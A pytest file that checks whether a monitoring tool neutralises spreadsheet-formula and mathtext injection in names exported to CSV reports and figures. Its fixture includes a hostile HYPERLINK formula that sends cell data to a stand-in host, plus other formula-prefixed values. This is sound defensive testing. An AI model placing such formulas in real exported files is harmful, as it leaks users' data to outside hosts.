"""Names from session files are text wherever they go: a spreadsheet does not run them as
formulas (gradebook.csv, holds.csv, analyze --csv, research tables), matplotlib does not parse
``$...$`` in them, and a 250-character name still makes legal file names."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import h5py
import pytest

from nmt_monitor.safetext import figure_text, spreadsheet_cell

REPO = Path(__file__).resolve().parents[2]
THERAPIST = '=HYPERLINK("http://x.example/?"&A1,"grades") $\\frac{$ ' + "x" * 200  # formula, mathtext, long
CLIENT = "@SUM(1+1)"
SITE = "-2+3 upper trapezius"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    d = tmp_path_factory.mktemp("names")
    path = d / "session.h5"
    shutil.copyfile(REPO / "recordings" / "example-drifting.h5", path)
    with h5py.File(path, "r+") as f:
        meta = f["general/session"].attrs
        meta["therapist"], meta["client"], meta["site"] = THERAPIST, CLIENT, SITE
    return path


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def _assert_numbers_stay_numbers(text: str, columns) -> None:
    header, *rows = list(csv.reader(io.StringIO(text)))
    negative = False
    for row in rows:
        for c in columns:
            cell = row[header.index(c)]
            if cell != "":
                float(cell)  # no leading quote on a number
                negative |= cell.startswith("-")
    assert negative, "the example should have a negative number (drift)"


def test_the_helpers():
    assert spreadsheet_cell("=1+1") == "'=1+1" and spreadsheet_cell("+1") == "'+1"
    assert spreadsheet_cell("-x") == "'-x" and spreadsheet_cell("@x") == "'@x"
    assert spreadsheet_cell("\tx") == "'\tx" and spreadsheet_cell("\rx") == "'\rx"
    assert spreadsheet_cell(-1.5) == -1.5 and spreadsheet_cell("Ann") == "Ann" and spreadsheet_cell(None) is None
    assert figure_text("$x$ costs $5") == r"\$x\$ costs \$5"


def test_grade_report_with_hostile_names(hostile, tmp_path, capsys):
    from nmt_monitor.cli import main

    report = tmp_path / "report"
    assert main(["grade", str(hostile), "--report", str(report), "--jobs", "1"]) == 0, capsys.readouterr().err
    (book,) = _rows((report / "gradebook.csv").read_text(encoding="utf-8"))
    assert book["student"] == "'" + THERAPIST and book["client"] == "'" + CLIENT and book["site"] == "'" + SITE
    text = (report / "holds.csv").read_text(encoding="utf-8")
    holds = _rows(text)
    assert holds and all(h["student"] == "'" + THERAPIST for h in holds)
    _assert_numbers_stay_numbers(text, ("start_s", "mean_N", "cv_pct", "drift_pct", "score"))
    pictures = sorted(p.name for p in (report / "img").rglob("*.png"))
    assert any("hold1" in p for p in pictures) and all(len(p) < 120 for p in pictures)
    assert all(len(p.name) < 120 for p in (report / "students").iterdir())


def test_analyze_csv_and_research_tables_neutralise_text_only(hostile, tmp_path, capsys):
    from nmt_monitor import research as R
    from nmt_monitor.cli import main

    assert main(["analyze", str(hostile), "--csv", "--jobs", "1"]) == 0
    text = capsys.readouterr().out
    rows = _rows(text)
    assert rows and all(r["therapist"] == "'" + THERAPIST and r["client"] == "'" + CLIENT for r in rows)
    _assert_numbers_stay_numbers(text, ("drift_pct", "drift_N_per_s", "mean_N", "tolerance_N"))
    out = tmp_path / "holds.csv"
    R.to_csv(R.holds_table([hostile]), out)  # the DataFrame of the same holds, written safely
    text = out.read_text(encoding="utf-8")
    table = _rows(text)
    assert [(r["therapist"], r["client"], r["site"], r["mean_N"]) for r in table] == \
        [(r["therapist"], r["client"], r["site"], r["mean_N"]) for r in rows]
    _assert_numbers_stay_numbers(text, ("drift_pct", "drift_N_per_s", "mean_N", "tolerance_N"))
